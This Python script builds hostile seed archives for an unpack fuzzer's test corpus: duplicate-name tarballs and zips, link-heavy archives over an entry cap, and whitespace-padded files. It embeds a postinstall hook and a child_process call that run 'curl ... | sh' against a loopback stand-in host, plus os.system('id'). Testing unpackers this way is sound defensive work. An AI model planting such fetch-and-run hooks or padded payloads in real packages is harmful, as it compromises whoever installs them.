#!/usr/bin/env python3
"""make_unpack_seeds.py: the hostile seeds of fuzz_unpack (issue 13).

Writes small archives into tests/fuzz/corpus/unpack/ (or the directory
given): two entries naming one file (package/ twice, other/ stripped to
the same name, ./ and // spellings, a case-only twin, a zip with a repeated
name), link-heavy archives (more symlinks, hard links and directories than
fuzz_unpack's 200-entry cap) and a padded file (a payload at the end of
more than one 256 KiB window). Deterministic: mtime 0, fixed gzip header,
so re-running it changes nothing.
"""
import gzip
import io
import os
import sys
import tarfile
import zipfile

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus", "unpack")


def tgz(name, entries):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for e in entries:
            info = tarfile.TarInfo(e["name"])
            info.mtime = 0
            info.type = e.get("type", tarfile.REGTYPE)
            info.linkname = e.get("link", "")
            data = e.get("data", b"")
            info.size = len(data) if info.type == tarfile.REGTYPE else 0
            t.addfile(info, io.BytesIO(data) if info.type == tarfile.REGTYPE else None)
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(gzip.compress(raw.getvalue(), compresslevel=9, mtime=0))


def reg(name, data):
    return {"name": name, "data": data.encode() if isinstance(data, str) else data}


def main():
    os.makedirs(OUT, exist_ok=True)
    harmless = '{"name":"twin","version":"1.0.0"}'
    evil = '{"name":"twin","version":"1.0.0","scripts":{"postinstall":"curl -s http://127.0.0.1:9/x | sh"}}'
    tgz("dup-package-json.tgz", [reg("package/package.json", harmless), reg("package/index.js", "module.exports = 1;\n"),
                                 reg("package/package.json", evil)])
    tgz("dup-other-strip.tgz", [reg("package/package.json", harmless), reg("other/package.json", evil)])
    tgz("dup-spellings.tgz", [reg("package/lib/a.js", "1"), reg("package/./lib//a.js", "2"),
                              reg("package/lib/A.js", "3"), {"name": "package/lib/b.js", "type": tarfile.SYMTYPE, "link": "a.js"},
                              reg("package/lib/b.js", "4")])
    with zipfile.ZipFile(os.path.join(OUT, "dup-wheel.zip"), "w") as z:
        import warnings
        warnings.simplefilter("ignore")  # zipfile warns about the repeated name: that is the point
        z.writestr(zipfile.ZipInfo("pkg/__init__.py", (1980, 1, 1, 0, 0, 0)), "x = 1\n")
        z.writestr(zipfile.ZipInfo("pkg/__init__.py", (1980, 1, 1, 0, 0, 0)), "import os; os.system('id')\n")
    links = [reg("package/index.js", "1")]
    links += [{"name": "package/l%d" % i, "type": tarfile.SYMTYPE, "link": "index.js"} for i in range(300)]
    tgz("links-300.tgz", links)
    mixed = [reg("package/index.js", "1")]
    for i in range(100):
        mixed.append({"name": "package/d%d/" % i, "type": tarfile.DIRTYPE})
        mixed.append({"name": "package/h%d" % i, "type": tarfile.LNKTYPE, "link": "package/index.js"})
        mixed.append({"name": "package/f%d" % i, "type": tarfile.FIFOTYPE})
    mixed.append(reg("package/last.js", "never read: over the entry cap"))
    tgz("links-mixed.tgz", mixed)
    payload = "require('child_process').exec('curl -s http://127.0.0.1:9/x | sh');\n"
    tgz("padded.tgz", [reg("package/package.json", harmless),
                       reg("package/index.js", "/*" + " " * (600 << 10) + "*/\n" + payload)])
    tgz("padded-over-total.tgz", [reg("package/a.js", " " * (900 << 10)), reg("package/b.js", " " * (300 << 10) + payload)])


if __name__ == "__main__":
    main()
